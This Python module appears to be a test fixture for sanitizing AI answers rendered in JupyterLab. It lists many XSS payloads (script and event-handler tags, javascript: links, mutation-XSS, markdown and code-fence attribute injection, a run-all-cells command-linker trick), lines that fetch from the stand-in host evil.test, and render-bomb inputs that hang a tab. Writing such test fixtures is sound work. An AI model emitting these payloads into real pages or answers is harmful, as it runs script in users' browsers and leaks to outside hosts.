"""What an answer may try: to run something, to fetch something, to reach out of its bubble, to hang the tab."""

from __future__ import annotations

OUTSIDE = "https://evil.test"

# Each would set `window.__xss`, ask `evil.test` for something, or change the page around the answer.
PAYLOADS = [
    "<script>window.__xss = 'script'</script>",
    f"<script src={OUTSIDE}/x.js></script>",
    "<scr<script>ipt>window.__xss = 'torn'</scr</script>ipt>",
    "<img src=x onerror=\"window.__xss = 'img'\">",
    f"<img src={OUTSIDE}/pixel.png> <img srcset='{OUTSIDE}/a 1x'> <image href={OUTSIDE}/a>",
    "<svg onload=\"window.__xss = 'svg'\"><script>window.__xss = 'svg script'</script></svg>",
    "<svg><animate onbegin=\"window.__xss = 'animate'\" attributeName=x dur=1s></svg>",
    f"<svg><foreignObject><iframe src={OUTSIDE}></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=__xss=1&gt;'>",
    "<iframe srcdoc='<script>parent.__xss = 1</script>'></iframe><iframe src='javascript:parent.__xss = 1'></iframe>",
    f"<object data='javascript:__xss = 1'></object><embed src='{OUTSIDE}/x.swf'>",
    f"<base href='{OUTSIDE}/'><link rel=stylesheet href={OUTSIDE}/x.css><link rel=prefetch href={OUTSIDE}/x>",
    # An address takes the backslash along that was to keep the tag behind it from being one.
    f"{OUTSIDE}/'\\<link rel=stylesheet href={OUTSIDE}/y.css>",
    f"<meta http-equiv=refresh content='0;url={OUTSIDE}'>",
    f"<style>* {{ background: url({OUTSIDE}/x) !important; position: fixed }} @import '{OUTSIDE}/x.css';</style>",
    "<div style='position:fixed;inset:0;z-index:99999;background:red'>cover</div>",
    f"<p style='background:url({OUTSIDE}/x)' onclick='__xss = 1' onmouseover='__xss = 1'>x</p>",
    f"<form action={OUTSIDE}><input autofocus onfocus='__xss = 1'><button onclick='__xss = 1'>Allow</button></form>",
    "<details ontoggle='__xss = 1' open>x</details><marquee onstart='__xss = 1'>x</marquee>",
    f"<video src={OUTSIDE}/x.mp4 poster={OUTSIDE}/x.png autoplay onerror='__xss = 1'></video><audio src={OUTSIDE}/x>",
    f"<a href='javascript:__xss = 1'>x</a> <a href='{OUTSIDE}' ping='{OUTSIDE}/p' onclick='__xss = 1'>y</a>",
    "<div data-commandlinker-command='notebook:run-all-cells' data-commandlinker-args='{}'>click me</div>",
    "<span class='jp-Dialog jp-mod-accept rb-root'>x</span><button class='jp-mod-accept'>OK</button>",
    "<template><img src=x onerror='__xss = 1'></template><noscript><p title='</noscript><img src=x onerror=__xss=1>'>",
    "[x](javascript:__xss=1) [x](JaVaScRiPt:__xss=1) [x](java&#x09;script:__xss=1) <javascript:__xss=1>",
    "[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTwvc2NyaXB0Pg==) [x](/lab/api/settings) [x](//evil.test/y)",
    f'[x]({OUTSIDE} "onmouseover=__xss=1") [x][r]\n\n[r]: javascript:__xss=1',
    f"![x]({OUTSIDE}/pixel.png) [![x]({OUTSIDE}/p.png)](javascript:__xss=1) ![x](javascript:__xss=1)",
    "![x](data:image/svg+xml,<svg onload=__xss=1>)",
    # JupyterLab writes the language of a block into an attribute as it is.
    '```x"><img src=x onerror=__xss=1>\ncode\n```',
    f'```py" style="background:url({OUTSIDE}/z);position:fixed" onmouseover="__xss=1\ncode\n```',
    '- ~~~py" onclick="__xss=1" data-commandlinker-command="notebook:run-all-cells\n  code\n  ~~~',
    # JupyterLab draws these, and the pictures in them.
    f"```mermaid\ngraph TD; A[<img src={OUTSIDE}/mermaid.png>] --> B\n```",
    "```html\n<img src=x onerror=__xss=1>\n```",
    "| <img src=x onerror=__xss=1> | [x](javascript:__xss=1) |\n|---|---|\n| <svg onload=__xss=1> | x |",
    f"$\\href{{javascript:__xss=1}}{{x}}$ $$\\includegraphics{{{OUTSIDE}/x.png}}$$ $<img src=x onerror=__xss=1>$",
    "<p>\u0000<scr\u0000ipt>__xss = 1</script> \u202e<script>__xss = 1</script>",
]
HOSTILE = "\n\n".join(PAYLOADS)
"""All of them in one answer."""
HOSTILE_LINE = " ".join(PAYLOADS).replace("\n", " ")


def bombs(count: int = 20_000) -> dict[str, str]:
    """Answers that nest or repeat something so often that drawing them could hang a tab."""
    return {
        "nested quotes": "> " * count + "deep",
        "nested lists": "- " * count + "deep",
        "nested brackets": "[" * count + "x" + "](y)" * count,
        "opened images": "![" * count,
        "nested HTML": "<sub>" * count + "x" + "</sub>" * count,
        "stars and letters": "*a " * count,
        "backticks": "`" * count,
        "fences": "```\n" * count,
        "a wide table": f"|{'a|' * count}\n|{'-|' * count}\n|{'b|' * count}",
        "a long table": "|a|b|\n|-|-|\n" + "|x|y|\n" * count,
        "formulas": "$x$ " * count,
        "opened formulas": "$$\n" * count,
        "links": "[a](https://b.test) " * count,
        "one word": "x" * (count * 10),
        "combining marks": "a" + "\u0301" * count,
        "line breaks": "x  \n" * count,
    }
